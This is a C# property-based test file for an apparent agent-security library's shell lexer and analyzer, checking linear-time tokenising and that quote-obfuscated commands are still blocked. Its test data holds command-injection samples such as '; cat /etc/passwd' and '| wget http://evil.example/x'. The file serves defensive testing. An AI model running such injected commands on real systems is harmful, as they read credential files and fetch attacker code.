using AgentGate.Threats.Shell;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace AgentGate.Tests.Threats.Shell;

public sealed class ShellLexerTests
{
    private static readonly string[] s_pieces = ["'", "\"", "\\", "$(", ")", "`", ";", "|", "&", "\n", " ", "a", "cat", "${IFS}", "$IFS", "{", "}", ",", "+", "<", ">", "\\n", "$@", "/etc/passwd", "^"];

    [Property(MaxTest = 500)]
    public Property Tokens_stand_in_order_inside_the_text_and_cost_linear_steps()
        => Prop.ForAll(Gen.Elements(s_pieces).ArrayOf().Select(string.Concat).ToArbitrary(), text =>
        {
            Span<char> word = stackalloc char[64];
            var lexer = new ShellLexer(text, word);
            var at = 0;
            var count = 0;
            while (lexer.Next(out var token))
            {
                if (token.Start < at || token.Start + token.Length > text.Length || ++count > text.Length + 1)
                {
                    return false;
                }

                at = token.Start + token.Length;
            }

            return lexer.Steps <= (4 * text.Length) + 8;
        });

    [Property(MaxTest = 500)]
    public void Any_string_can_be_read(string? text)
    {
        Span<char> word = stackalloc char[16];
        var lexer = new ShellLexer(text ?? "", word);

        while (lexer.Next(out var token))
        {
            Assert.InRange(token.Start + token.Length, 0, text!.Length);
        }
    }

    [Property(MaxTest = 300)]
    public Property Quotes_inside_a_command_do_not_change_the_verdict()
    {
        var commands = Gen.Elements("; cat /etc/passwd", "| wget http://evil.example/x", "&& nslookup evil.example", "|| ping -c 10 127.0.0.1");
        var marks = Gen.Elements("''", "\"\"", "\\", "$@");
        return Prop.ForAll(commands.SelectMany(command => marks.SelectMany(mark => Gen.Choose(1, 2).Select(at => (command, mark, at)))).ToArbitrary(), row =>
        {
            var name = row.command.LastIndexOfAny([';', '|', '&']) + 2;
            return Scanning.Blocks(new ShellAnalyzer(), row.command.Insert(name + row.at, row.mark));
        });
    }

    [Theory]
    [InlineData("$(")]
    [InlineData("`")]
    [InlineData(";")]
    [InlineData("'")]
    [InlineData("\"")]
    [InlineData("'\"")]
    [InlineData("\\")]
    [InlineData("a'b")]
    [InlineData("() { ")]
    [InlineData("{a,")]
    [InlineData("<?")]
    [InlineData("${x")]
    public void A_long_run_of_anything_is_read_once(string unit)
    {
        var text = string.Concat(Enumerable.Repeat(unit, 50_000));
        Span<char> word = stackalloc char[64];
        var lexer = new ShellLexer(text, word);

        while (lexer.Next(out _))
        {
        }

        Assert.True(lexer.Steps <= 4 * text.Length);
        Scanning.Scan(new ShellAnalyzer(), text);
    }
}
